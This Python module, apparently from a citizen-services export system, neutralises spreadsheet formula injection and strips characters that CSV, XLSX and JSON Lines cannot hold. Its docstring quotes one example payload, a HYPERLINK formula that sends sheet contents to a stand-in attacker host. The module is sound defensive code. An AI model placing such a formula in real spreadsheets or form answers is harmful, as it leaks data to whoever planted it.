"""Cells of the files the guichet exports (CSV, XLSX, JSON Lines): one
place that makes a citizen's text safe to open in a spreadsheet, and safe
to encode whatever was stored.

- **Formulas.** A spreadsheet runs a cell that starts with ``=``, ``+``,
  ``-`` or ``@`` (and, read from CSV, with a tab or a carriage return) as a
  formula: ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` in an answer
  would leak the sheet to whoever wrote it. CSV cells that start so are
  prefixed with a single quote (the OWASP rule, :func:`csv_cell`); XLSX
  cells are always written as text, never as formulas (:func:`xlsx_cell`).
- **Characters.** Validation refuses control characters and lone
  surrogates (forms.kinds), but answers stored before it, or by other
  means, may hold them: XLSX cannot contain control characters at all, and
  UTF-8 cannot encode a lone surrogate. Writers replace what their format
  cannot hold instead of failing the whole export.
"""

from typing import Any

import re


#: What a spreadsheet may take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The same, as first characters (each start is one character).
_FORMULA_FIRST = frozenset(FORMULA_STARTS)
#: A plain number is no formula: ``-12.5`` stays a number.
_PLAIN_NUMBER = re.compile(r"^-?\d+(?:[.,]\d+)?$")
#: Halves of UTF-16 pairs, alone in a Python string (JSON lets "\ud800" in).
LONE_SURROGATES = re.compile("[\ud800-\udfff]")
#: What an XLSX cell (XML 1.0) cannot hold: openpyxl's own list.
XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def without_surrogates(text: str) -> str:
    """``text`` with lone surrogates replaced by U+FFFD, so that it can be
    encoded as UTF-8."""
    return LONE_SURROGATES.sub(REPLACEMENT, text)


def neutralise_formula(text: str) -> str:
    """``text`` as a spreadsheet will show it, never run it: a single quote
    before a cell that would start a formula (plain numbers excepted)."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def csv_cell(value: Any) -> Any:
    """A value for :mod:`csv`: text neutralised and encodable."""
    if not isinstance(value, str):
        return value
    return neutralise_formula(without_surrogates(value))


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def csv_rows_text(rows) -> list[list]:
    """Rows for :mod:`csv` whose text is neutralised, its lone surrogates
    left to :func:`csv_bytes` (for large exports: the text of a whole batch
    is scanned once, not each cell). The CSV is the same as with
    :func:`csv_row`: a surrogate is neither a formula's start nor special
    to :mod:`csv`, so it may be replaced before or after."""
    first = _FORMULA_FIRST
    return [
        [
            neutralise_formula(value)
            if isinstance(value, str) and value[:1] in first
            else value
            for value in values
        ]
        for values in rows
    ]


def csv_bytes(text: str) -> bytes:
    """CSV text written from :func:`csv_rows_text` as UTF-8 (lone
    surrogates replaced)."""
    try:
        return text.encode("utf-8")
    except UnicodeEncodeError:
        return without_surrogates(text).encode("utf-8")


def xlsx_text(value: Any) -> str:
    """The text of an XLSX cell: what XML 1.0 and UTF-8 can hold."""
    return XLSX_ILLEGAL.sub("", without_surrogates(str(value)))


def xlsx_row(sheet, values) -> list:
    """The cells of a row of an openpyxl write-only ``sheet``, every one of
    them text (openpyxl takes a str starting with ``=`` for a formula)."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=xlsx_text(value))
            cell.data_type = "s"
        else:
            cell = WriteOnlyCell(sheet, value=value)
        cells.append(cell)
    return cells


def jsonl_line(text: str) -> bytes:
    """A line of JSON (``json.dumps`` with ``ensure_ascii=False``) as UTF-8:
    lone surrogates are written as JSON escapes (``\\ud800``), as they came."""
    try:
        return text.encode("utf-8")  # nearly always: no lone surrogate
    except UnicodeEncodeError:
        pass
    escaped = LONE_SURROGATES.sub(lambda match: f"\\u{ord(match[0]):04x}", text)
    return escaped.encode("utf-8")
